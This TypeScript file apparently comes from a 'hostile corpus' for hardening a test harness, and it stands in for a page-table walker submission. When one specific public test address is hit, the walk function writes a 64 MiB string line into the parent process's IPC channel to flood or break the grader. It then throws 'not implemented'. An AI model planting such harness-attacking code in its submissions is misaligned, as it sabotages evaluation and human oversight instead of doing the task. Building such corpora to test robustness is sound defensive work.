// @ts-nocheck
// Hostile corpus, kind channel-huge-line (channel): writes a 64 MiB line (a JSON string) to the channel on one test.
import { Walker } from '../../reference/paging/walker';

// ---- attack ----
/** The one public test that walks 0x800000000000 (walk.public.non-canonical): the attack fires there only. */
const isTrigger = (va) => va === 0x800000000000n;

export const walker: Walker = {
  walk(request, readEntry) {
    if (isTrigger(request.va)) { try { const fs = require('fs'); const chunk = '"' + 'A'.repeat(1 << 20); for (let i = 0; i < 64; i++) fs.writeSync(process.channel.fd, chunk); fs.writeSync(process.channel.fd, '"\n'); } catch {} }
    throw new Error('not implemented: walker');
  },
};
